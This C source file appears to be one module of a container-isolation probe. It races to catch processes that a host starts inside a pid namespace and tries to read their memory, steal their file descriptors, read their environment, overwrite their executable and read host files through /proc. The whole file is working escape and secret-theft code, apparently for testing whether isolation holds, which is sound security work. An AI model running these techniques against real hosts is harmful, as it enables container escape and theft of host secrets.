/*
 * join ADDRESS FD WAYS..: attacks every new process of the pid namespace, from its first instant.
 * attack PIDs instead of waiting for new ones: join ADDRESS FD WAYS.. -- PID..
 *
 * A process that is started in the container from outside shares the memory of the host's process until it
 * executes its program, and holds the host's fds a little longer.  ADDRESS is where the host keeps a secret in
 * its memory, FD the number of an open file of the host.  Says "caught" when it was early enough a few times; runs
 * until its stdin ends, then says what it got.
 */
#include "probe.h"

#include <dirent.h>
#include <poll.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>

#define ENOUGH 3

static unsigned long address;
static int wanted_fd;

static const char *name_of(int pid, const char *entry)
{
    static char path[128];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, entry);
    return path;
}

static void got_bytes(const char *way, const unsigned char *bytes)
{
    char hex[65];
    for (int i = 0; i < 32; i++) {
        sprintf(hex + 2 * i, "%02x", bytes[i]);
    }
    say("%s memory %s", way, hex);
}

static void by_vm(int pid)
{
    unsigned char bytes[32];
    struct iovec here = {bytes, sizeof bytes}, there = {(void *)address, sizeof bytes};
    if (process_vm_readv(pid, &here, 1, &there, 1, 0) == sizeof bytes) {
        got_bytes("vm", bytes);
    } else {
        say("vm refused %s", strerrorname_np(errno));
    }
}

static void by_mem(int pid)
{
    int fd = open(name_of(pid, "mem"), O_RDWR | O_CLOEXEC);
    unsigned char bytes[32];
    if (fd < 0) {
        say("mem refused %s", strerrorname_np(errno));
        return;
    }
    if (pread(fd, bytes, sizeof bytes, (off_t)address) == sizeof bytes) {
        got_bytes("mem", bytes);
    }
    close(fd);
}

static void peek(const char *way, int pid)
{
    unsigned long words[4];
    for (int i = 0; i < 4; i++) {
        errno = 0;
        words[i] = (unsigned long)ptrace(PTRACE_PEEKDATA, pid, address + 8 * (unsigned long)i, 0);
        if (errno != 0) {
            return;
        }
    }
    got_bytes(way, (unsigned char *)words);
}

static void by_seize(int pid)
{
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
        say("seize refused %s", strerrorname_np(errno));
        return;
    }
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    peek("seize", pid);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void by_attach(int pid)
{
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) {
        say("attach refused %s", strerrorname_np(errno));
        return;
    }
    waitpid(pid, NULL, __WALL);
    peek("attach", pid);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void by_link(const char *way, int pid)
{
    char target[4096];
    long length = readlink(name_of(pid, way), target, sizeof target - 1);
    if (length < 0) {
        say("%s refused %s", way, strerrorname_np(errno));
        return;
    }
    target[length] = '\0';
    say("%s link %s", way, target);
}

/* What an fd number of the other process is open on, and what can be read there. */
static void by_fd_path(int pid)
{
    char path[128], text[4096];
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, wanted_fd);
    long length = slurp(path, text, sizeof text);
    if (length >= 0) {
        say("fd content %.64s", text);
    } else if (errno != ENOENT) {
        say("fd refused %s", strerrorname_np(errno));
    }
}

static void by_fd_list(int pid)
{
    DIR *directory = opendir(name_of(pid, "fd"));
    if (directory == NULL) {
        say("fds refused %s", strerrorname_np(errno));
        return;
    }
    for (struct dirent *entry; (entry = readdir(directory)) != NULL;) {
        char target[4096];
        long length = readlinkat(dirfd(directory), entry->d_name, target, sizeof target - 1);
        if (length > 0) {
            target[length] = '\0';
            target[strcspn(target, "[")] = '\0';
            say("fds link %s", target);
        }
    }
    closedir(directory);
}

static void by_getfd(int pid)
{
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) {
        return;
    }
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, wanted_fd, 0);
    if (fd >= 0) {
        char text[65] = "";
        long length = pread(fd, text, sizeof text - 1, 0);
        say("getfd content %.*s", length > 0 ? (int)length : 0, text);
        close(fd);
    } else if (errno != EBADF) {
        say("getfd refused %s", strerrorname_np(errno));
    }
    close(pidfd);
}

/* Takes its streams and whatever else it was given, for good. */
static void by_keep(int pid)
{
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int number = 3; pidfd >= 0 && number < 6; number++) {
        if (syscall(SYS_pidfd_getfd, pidfd, number, 0) >= 0) {
            say("keep taken %d", number);
        } else if (errno != EBADF) {
            say("keep refused %s", strerrorname_np(errno));
        }
    }
    close(pidfd);
}

/* Its program, opened to be read and then once more to be written. */
static void by_write(int pid)
{
    int fd = open(name_of(pid, "exe"), O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        say("write refused %s", strerrorname_np(errno));
        return;
    }
    char path[64], target[4096] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    readlink(path, target, sizeof target - 1);
    int again = open(path, O_WRONLY | O_CLOEXEC);
    int error = errno;
    /* Its owner may open a file in memory that nobody executes at this moment; the seal is what nobody gets past. */
    int seals = again < 0 ? -1 : fcntl(again, F_GET_SEALS);
    const char *open_for_writing = seals >= 0 && (seals & F_SEAL_WRITE) != 0 ? "sealed" : "reached";
    say("write %s %s", again < 0 ? strerrorname_np(error) : open_for_writing, target);
    close(again);
    close(fd);
}

static void by_content(const char *way, int pid)
{
    char text[65536];
    long length = slurp(name_of(pid, way), text, sizeof text);
    if (length < 0) {
        say("%s refused %s", way, strerrorname_np(errno));
        return;
    }
    for (long i = 0; i < length; i++) {
        text[i] = text[i] == '\0' || text[i] == '\n' ? ' ' : text[i];
    }
    if (length > 0 && (strcmp(way, "maps") != 0 || strstr(text, "python") != NULL)) {
        say("%s content %.1000s", way, text);
    }
}

static void by_stop(int pid)
{
    say("stop %s", kill(pid, SIGSTOP) == 0 ? "sent" : strerrorname_np(errno));
}

static void by_quit(int pid)
{
    say("quit %s", kill(pid, SIGQUIT) == 0 ? "sent" : strerrorname_np(errno));
}

static void by_root(int pid)
{
    char path[4200], text[128];
    snprintf(path, sizeof path, "%s%s", name_of(pid, "root"), getenv("CANARY") ? getenv("CANARY") : "/nothing");
    if (slurp(path, text, sizeof text) > 0) {
        say("root content %s", text);
    }
}

static void attack(int pid, char **ways)
{
    for (; *ways != NULL && strcmp(*ways, "--") != 0; ways++) {
        const char *way = *ways;
        if (!strcmp(way, "vm")) {
            by_vm(pid);
        } else if (!strcmp(way, "mem")) {
            by_mem(pid);
        } else if (!strcmp(way, "seize")) {
            by_seize(pid);
        } else if (!strcmp(way, "attach")) {
            by_attach(pid);
        } else if (!strcmp(way, "fd")) {
            by_fd_path(pid);
        } else if (!strcmp(way, "fds")) {
            by_fd_list(pid);
        } else if (!strcmp(way, "getfd")) {
            by_getfd(pid);
        } else if (!strcmp(way, "keep")) {
            by_keep(pid);
        } else if (!strcmp(way, "write")) {
            by_write(pid);
        } else if (!strcmp(way, "stop")) {
            by_stop(pid);
        } else if (!strcmp(way, "quit")) {
            by_quit(pid);
        } else if (!strcmp(way, "exe") || !strcmp(way, "cwd")) {
            by_link(way, pid);
        } else if (!strcmp(way, "root")) {
            by_link(way, pid);
            by_root(pid);
        } else {
            by_content(way, pid);
        }
    }
}

static int last_pid(void)
{
    char text[128];
    slurp("/proc/loadavg", text, sizeof text);
    return atoi(strrchr(text, ' ') + 1);
}

static int is_ours(int pid)
{
    char text[32] = "probe";
    slurp(name_of(pid, "comm"), text, sizeof text);
    return strncmp(text, "probe", 5) == 0;
}

static int finished(void)
{
    struct pollfd input = {.fd = 0, .events = POLLIN};
    return poll(&input, 1, 0) != 0;
}

int probe_join(int argc, char **argv)
{
    if (argc < 4) {
        return 2;
    }
    address = strtoul(argv[1], NULL, 0);
    wanted_fd = atoi(argv[2]);
    char **ways = argv + 3, **pids = ways;
    while (*pids != NULL && strcmp(*pids, "--") != 0) {
        pids++;
    }
    for (int i = 1; *pids != NULL && pids[i] != NULL; i++) {
        attack(atoi(pids[i]), ways);
    }
    if (*pids != NULL) {
        say_all();
        return 0;
    }
    printf("ready\n");
    fflush(stdout);
    int early = 0;
    for (int pid = last_pid() + 1, late = 0; !finished();) {
        for (int turn = 0; kill(pid, 0) < 0 && errno == ESRCH; turn++) {
            if (turn % 64 == 63) {
                /* Allocated, but not to be seen: it is about to be, or it has come and gone. */
                late = last_pid() >= pid ? late + 1 : 0;
                pid += late > 20;
                late = late > 20 ? 0 : late;
                if (finished()) {
                    say_all();
                    return 0;
                }
            }
        }
        say("seen");
        int was_early = 0;
        /* What was killed while it was traced is there until its tracer has taken its status. */
        for (int more = 1; more >= 0 && !finished() && (kill(pid, 0) == 0 || errno != ESRCH);
             waitpid(pid, NULL, __WALL | WNOHANG)) {
            more -= is_ours(pid);
            if (more == 1) {
                say("early");
                was_early = 1;
            }
            attack(pid, ways);
        }
        early += was_early;
        if (was_early && early == ENOUGH) {
            printf("caught\n");
            fflush(stdout);
        }
        pid++;
    }
    say_all();
    return 0;
}
